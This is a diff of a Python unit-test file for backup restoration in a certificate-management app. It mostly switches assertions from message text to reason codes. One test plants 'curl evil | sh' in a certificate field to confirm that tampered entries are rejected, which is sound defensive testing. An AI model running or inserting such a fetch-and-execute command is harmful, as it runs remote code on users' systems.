@@ -12,7 +12,8 @@ from app.backup.restore import preview
 from app.errors import StorageError
 from app.issuance.issuance import Issuance
 from app.issuance.record import issuance_to_json
-from app.ui.panels.restoring import outcome, restoring
+from app.text.backup import outcome, restoring_question
+from app.text.sentences import sentence
 from tests.unit.backup.test_backup import everything
 from tests.unit.backups import ACCOUNT_KEY, MINE, content, key_entry, order, restored, spoil, with_account
 from tests.unit.chains import NOW, chain
@@ -129,7 +130,7 @@ async def test_certificate_with_something_beside_it_is_left_out() -> None:
     hostile = content()
     one = order(hostile, "1")
     one["certificate_pem"] = one["chains"][0] = f"curl evil | sh\n{one['certificate_pem']}"
-    assert "something else" in (await restored(visit, hostile)).left_out[0].why
+    assert "something-else" in str((await restored(visit, hostile)).left_out[0].reason)
 
 
 BAD_KEYS: Final[list[tuple[str, object]]] = [
@@ -181,7 +182,7 @@ async def test_certificate_key_must_be_the_certificates_own() -> None:
     came = await restored(visit, hostile)
     assert "1" in {issuance.id for issuance in came.issuances}
     assert "certificate 1" not in await visit.ports.keys.names()
-    assert [(entry.part, entry.why) for entry in came.left_out] == [("key", "It is not the key of this certificate.")]
+    assert [(entry.part, str(entry.reason)) for entry in came.left_out] == [("key", "key-not-of-this-certificate")]
 
 
 async def test_two_of_one_kind_do_not_both_come_in() -> None:
@@ -198,9 +199,7 @@ async def test_ca_that_this_page_does_not_list_is_told() -> None:
     visit = Visit(authorities=(PRACTICE,))
     came = await restored(visit, content())
     assert (came.accounts, came.issuances) == ((), ())
-    assert {entry.why for entry in came.left_out} == {
-        "This copy of Keystay does not know its CA, or knows it by another address."
-    }
+    assert {str(entry.reason) for entry in came.left_out} == {"entry-of-an-unknown-ca"}
 
 
 def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
@@ -221,7 +220,7 @@ async def test_damage_anywhere_never_touches_what_is_here(damage: object) -> Non
         before = await everything(visit)
         hostile = content()
         spoil(hostile, "/".join(map(str, path)), damage)
-        question = restoring(visit.workflow, await preview(visit.workflow, Backup.from_json(hostile)))
+        question = restoring_question(visit.workflow, await preview(visit.workflow, Backup.from_json(hostile)))
         shown = [
             *question.lines,
             *(line for part in outcome(visit.workflow, await restored(visit, hostile)) for line in part.lines),
@@ -276,5 +275,6 @@ async def test_stored_account_under_another_ones_name_is_not_taken() -> None:
     mine = await with_account(visit)
     await visit.ports.store.put(f"account {DIRECTORY} 2", mine.to_json())
     assert await visit.workflow.accounts.all() == [mine]
-    with pytest.raises(StorageError, match="another one’s name"):
+    with pytest.raises(StorageError, match="account-damaged") as caught:
         await visit.workflow.accounts.saved(f"{DIRECTORY} 2")
+    assert sentence(caught.value).endswith("It is stored under the name of another record.")
